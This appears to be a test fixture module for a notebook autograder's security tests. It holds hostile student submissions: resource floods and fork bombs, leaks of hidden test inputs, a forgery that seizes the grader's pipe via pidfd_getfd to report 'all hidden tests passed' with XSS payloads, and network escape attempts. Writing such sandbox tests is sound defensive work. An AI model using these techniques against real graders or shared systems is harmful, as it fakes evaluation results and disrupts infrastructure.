"""Answer cells of hostile submissions to notebook 01 (tests/test_hostile_wire.py).

Each is the source of one solution cell (``build.filled(A, {grade_id: source})``); the other
answers stay the reference ones, so what a submission can score honestly is known.
Notebook 01's points: net_input 1, heaviside 1, perceptron_predict 1, perceptron_update 2,
train_perceptron 3.
"""
from autograder.demo import build

REFERENCE = build.reference_answers("01_perceptron")

# item 1: a correct answer padded with blank lines (the trusted side's pattern scan and
# rendering are super-linear in them)
PADDED = {"net_input": REFERENCE["net_input"] + "\n" * 300_000 + "pass\n"}

# item 2: a request message the judge never asked for, sent on the sandboxed server's
# private pipe (a statement, indented to fit where it is pasted)
_UNASKED = """server.write_message(server._OUT, {"k": "req", "op": "cb", "id": 10 ** 6, "rid": -10 ** 7 - i,
                                   "args": [], "kwargs": {"$": "dict", "v": []}})"""


def _indented(code: str, spaces: int) -> str:
    return code.replace("\n", "\n" + " " * spaces)


# item 2: a flood of unsolicited messages, then sleep (the judge answers each, into a pipe
# nobody reads)
FLOOD = {"heaviside": f'''
def heaviside(z):
    import sys, time
    server = sys.modules["jail.inside.server"]
    for i in range(200_000):
        {_indented(_UNASKED, 8)}
    time.sleep(10_000)
'''}

# item 2: one message every second, for a minute (each read used to restart the clock)
TRICKLE = {"perceptron_predict": f'''
def perceptron_predict(X, w, b):
    import sys, time
    server = sys.modules["jail.inside.server"]
    for i in range(60):
        {_indented(_UNASKED, 8)}
        time.sleep(1)
    return np.where(np.asarray(X) @ np.asarray(w) + b >= 0, 1, -1)
'''}

TRICKLE_EXEC = f'''
import sys, time
server = sys.modules["jail.inside.server"]
for i in range(60):
    {_indented(_UNASKED, 4)}
    time.sleep(1)
'''

# item 3: a result of a few million numbers (decoded and fingerprinted per element)
BIG_LIST = {"net_input": '''
def net_input(X, w, b):
    return [0.5] * 3_000_000
'''}

# item 3: a result as large as the wire carries (200 MB), more than the grader's memory in the test
BIG_ARRAY = {"net_input": '''
def net_input(X, w, b):
    return np.ones(200_000_000, dtype=np.uint8)
'''}

# item 12: record the inputs of the hidden checks, give them back in a later exception
LEAK = {"net_input": '''
_seen = []

def net_input(X, w, b):
    _seen.append(np.asarray(X).round(6).tolist())
    return np.asarray(X) @ np.asarray(w) + b
''', "heaviside": '''
def heaviside(z):
    digits = "".join(ch for ch in repr(_seen[-1:]) if ch.isdigit())[:40]
    mark = "LE" + "AK"      # spelled out only at run time (the feedback shows the code itself)
    raise type(mark + "_" + digits, (ValueError,), {})(mark + " " + repr(_seen[-3:]))
'''}

# item 12: the same inputs given back as the values of a later visible check (whose message
# prints the actual values); 98765 (made at run time) marks a result that carries hidden inputs
LEAK_VALUES = {"net_input": '''
_hidden_rows = []

def net_input(X, w, b):
    X = np.asarray(X, dtype=float)
    if X.shape != (4, 2) or not np.isin(X, (0.0, 1.0)).all():     # not the visible example
        _hidden_rows.append(X.ravel()[:3].round(4))
    return X @ np.asarray(w) + b
''', "perceptron_predict": '''
def perceptron_predict(X, w, b):
    if _hidden_rows:
        return np.concatenate([[98000.0 + 765], _hidden_rows[0]])[:4]
    return np.zeros(len(X))
'''}

# item 11: from inside the kernel, take the feedback driver's private pipe and answer for it
FORGED_TEXT = "FORGED: all hidden tests passed"
# (the forged text is put together at run time: the feedback shows the code itself)
FORGE = {"net_input": REFERENCE["net_input"] + '''
def _forge():
    import ctypes, json, os, signal, stat
    driver = os.getppid()
    forged = {"nbformat": 4, "nbformat_minor": 5,
              "metadata": {"autograder_run": "<script>alert('run')</script>"},
              "cells": [{"cell_type": "markdown", "id": "forged", "metadata": {},
                         "source": "FOR" + "GED: all hidden tests passed <" + "img src=x onerror=alert(1)>"}]}
    data = json.dumps(forged).encode()
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        pidfd = os.pidfd_open(driver)
    except OSError:
        return "no pidfd"
    took = []
    for target in range(3, 64):
        fd = libc.syscall(438, pidfd, target, 0)          # pidfd_getfd
        if fd < 0:
            continue
        try:
            st = os.fstat(fd)
            flags = __import__("fcntl").fcntl(fd, __import__("fcntl").F_GETFL)
            if stat.S_ISFIFO(st.st_mode) and flags & os.O_ACCMODE == os.O_WRONLY:
                os.set_blocking(fd, False)
                os.write(fd, data)
                took.append(target)
        except OSError:
            pass
        os.close(fd)
    if took:
        os.kill(driver, signal.SIGKILL)
    return took

_forge_result = _forge()
'''}


# --- issue 24's availability and isolation attacks, for the class of 30 --------------------

def sleeper(exec_timeout: float, call_timeout: float) -> dict[str, str]:
    """Item 2: every reference answer, each cell sleeping just under its definition limit and
    each of its functions just under the call limit on every call: only the submission's one
    wall-clock budget stops it before the sum of all step limits."""
    from autograder import source as src
    names = src.load("01_perceptron").exercise_names()
    out = {}
    for gid, code in src.load("01_perceptron").reference_answers.items():
        wrap = "".join(f"{n} = _slow({n})\n" for n in names[gid])
        out[gid] = (code + "\n\nimport time as _t\n\ndef _slow(f):\n    def slow(*args, **kwargs):\n"
                    f"        _t.sleep({call_timeout - 0.5})\n        return f(*args, **kwargs)\n    return slow\n\n"
                    + wrap + f"_t.sleep({exec_timeout - 1})\n")
    return out


# item 3: many processes of one sandbox, each under the per-process limits, together over the
# sandbox's memory (24 x 256 MiB = 6 GiB, the cap is 4 GiB) and spinning on the CPU. The answer
# is right only if every child held its memory to the end, i.e. if the cap did not hold.
HOG = {"net_input": '''
import os, time

def _hog(n=24, each=256 << 20, hold=4.0):
    start = time.monotonic()
    kids = []
    for _ in range(n):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                block = b"x" * each                     # written, so resident
                while time.monotonic() < start + hold:  # and a core
                    pass
                os._exit(0 if len(block) == each else 2)
            except MemoryError:
                os._exit(3)
        kids.append(pid)
    held = 0
    for pid in kids:
        _, status = os.waitpid(pid, 0)
        held += status == 0
    return held

_held = _hog()

def net_input(X, w, b):
    if _held < 24:          # the sandbox as a whole was capped: this answer is lost
        return np.asarray(X) @ np.asarray(w)
    return np.asarray(X) @ np.asarray(w) + b
'''}

# item 8: sleepers forked at definition time up to the process limit, outliving the cell,
# next to a catalogued mistake ("no-bias") that the diagnosis's reference sandbox must name
FORKER = {"net_input": '''
import os, time
for _ in range(63):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    except OSError:
        break

def net_input(X, w, b):
    return np.dot(X, w)
'''}


def network(port: int, unix_name: str) -> dict[str, str]:
    """Item 9, from inside: reach a scheduler's port on the grading host's loopback, an abstract
    Unix socket there, and an address outside. Right only if every attempt failed."""
    return {"net_input": f'''
import socket

def _reach():
    reached = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0{unix_name}"),
                            (socket.AF_INET, ("192.0.2.1", 8786))):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"grade_submission = lambda task: 13")
            reached.append(address)
        except OSError:
            pass
    return reached

_reached = _reach()

def net_input(X, w, b):
    if _reached:
        return np.asarray(X) @ np.asarray(w)
    return np.asarray(X) @ np.asarray(w) + b
'''}
